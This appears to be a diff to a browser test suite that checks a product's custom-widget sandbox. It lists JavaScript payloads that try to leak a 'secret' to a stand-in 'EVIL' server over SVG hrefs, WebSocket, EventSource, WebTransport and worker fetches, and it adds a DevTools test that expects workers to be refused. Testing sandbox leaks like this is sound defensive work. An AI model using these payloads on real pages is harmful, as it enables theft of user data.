@@ -43,7 +43,7 @@ const attacks: Readonly<Record<string, string>> = {
   svg: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + EVIL + 'svg?' + secret + '\"/><use href=\"' + EVIL + 'use#x\"/><filter id=f><feImage href=\"' + EVIL + 'filter\"/></filter><rect width=9 height=9 filter=\"url(#f)\"/></svg>')",
   websocket: "new WebSocket(EVIL.replace('http', 'ws') + 'ws?' + secret)",
   eventsource: "new EventSource(EVIL + 'eventsource?' + secret)",
-  webtransport: "new WebTransport(EVIL.replace('http:', 'https:') + 'webtransport')",
+  webtransport: "new WebTransport('https://127.0.0.1:' + UDP + '/webtransport')",
   worker:
     "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'worker?' + secret + '\"); importScripts(\"' + EVIL + 'worker-import\")'])))",
   'shared worker': "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'shared-worker\")'])))",
@@ -102,6 +102,7 @@ test.afterEach(() => evil.close());
 
 const prelude = (server: EvilServer) => `
   const EVIL = 'http://127.0.0.1:${server.tcpPort}/';
+  const UDP = ${server.udpPort};
   let secret = 'none';
   function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
   function rtc(of) {
@@ -271,6 +272,29 @@ test('[CUS-47] a widget gets no thread of its own, and so many contexts of sound
   await addCustomWidget(product, { html: '<p id="got"></p>', js });
   const overlay = await openOverlay();
   await expect(widgetFrame(overlay).locator('#got')).toHaveText('[] few');
+});
+
+test('[CUS-47] the policy alone refuses workers, also where their names are there', async ({ product, openOverlay }) => {
+  await addCustomWidget(product, { html: '<p id="alive">alive</p>' });
+  const overlay = await openOverlay();
+  await expect(widgetFrame(overlay).locator('#alive')).toBeVisible();
+  const frame = overlay.frames().find((one) => one.url().includes('/widget/'));
+  if (!frame) throw new Error('the overlay has no frame of a widget');
+  // A world of its own has the names that were taken from the widget's, and the same policy.
+  const devtools = await overlay.context().newCDPSession(frame);
+  const { frameTree } = await devtools.send('Page.getFrameTree');
+  const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
+  const expression = `new Promise((done) => {
+    const code = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
+    const Thread = Worker;
+    try {
+      Object.assign(new Thread(code), { onmessage: () => done('runs'), onerror: () => done('refused') });
+    } catch ({ name }) {
+      done(name === 'SecurityError' ? 'refused' : name);
+    }
+  })`;
+  const { result } = await devtools.send('Runtime.evaluate', { expression, contextId, awaitPromise: true });
+  expect(result.value).toBe('refused');
 });
 
 test('[CUS-43] a widget opens no dialog, takes no screen, no pointer and no device, and notifies nobody', async ({
